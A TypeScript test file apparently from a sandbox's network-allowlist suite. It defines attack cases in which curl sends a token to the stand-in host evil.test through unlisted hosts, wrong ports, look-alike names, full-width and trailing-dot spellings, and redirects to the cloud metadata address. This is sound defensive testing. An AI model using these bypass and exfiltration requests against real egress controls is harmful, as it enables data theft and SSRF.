import { type AttackCase, allRuntimes } from "../attack-case.ts";
import { curl, networkAttack } from "./network-attack.ts";

const both = { runtimes: allRuntimes, sandboxes: ["allowing"] } as const;

const exactRules = "one canonical name is matched, resolved and dialled";

/** Names and addresses that no rule allows, in every spelling, asked for as any program would. */
export const nameCases: readonly AttackCase[] = [
  networkAttack({
    ...both,
    name: "unlisted-host",
    attack: 34,
    title: "A host that no rule names, over HTTP and HTTPS",
    protection: "the allowlist",
    program: ({ token, target }) => curl(target, [`https://evil.test/${token}`, `http://evil.test/${token}`]),
  }),
  networkAttack({
    ...both,
    name: "wrong-port",
    attack: 35,
    title: "An allowed host on a port that no rule names",
    protection: "rules name ports; 80 and 443 where they do not",
    program: ({ token, target }) =>
      curl(target, [`https://allowed.test:8443/${token}`, `http://allowed.test:8080/${token}`]),
  }),
  networkAttack({
    ...both,
    name: "near-names",
    attack: 36,
    title: "The apex of a wildcard, and names that begin or end like an allowed one",
    protection: exactRules,
    program: ({ token, target }) =>
      curl(
        target,
        ["second.test", "xallowed.test", "sub.allowed.test", "allowed.test.evil.test"].map(
          (host) => `http://${host}/${token}`,
        ),
      ),
  }),
  networkAttack({
    ...both,
    name: "spellings",
    attack: 37,
    title: "An unlisted host in capitals, with a trailing dot, in full-width letters",
    protection: exactRules,
    program: ({ token, target }) =>
      curl(
        target,
        ["ｅvil.test", "evil。test", "evil.test.", "EVIL.TEST"].map((host) => `http://${host}/${token}`),
      ),
  }),
  networkAttack({
    ...both,
    name: "redirect",
    attack: 46,
    title: "A redirect from an allowed host to an unlisted one and to the metadata service",
    protection: "each request is judged for itself",
    program: ({ token, target }) =>
      curl(
        target,
        [`http://evil.test/${token}`, `http://169.254.169.254/${token}`].map(
          (to) => `http://allowed.test/?redirect=${encodeURIComponent(to)}`,
        ),
        "-L",
      ),
    arrived: (arrival, { token }) => arrival.kind === "request" && arrival.target === `/${token}`,
  }),
];
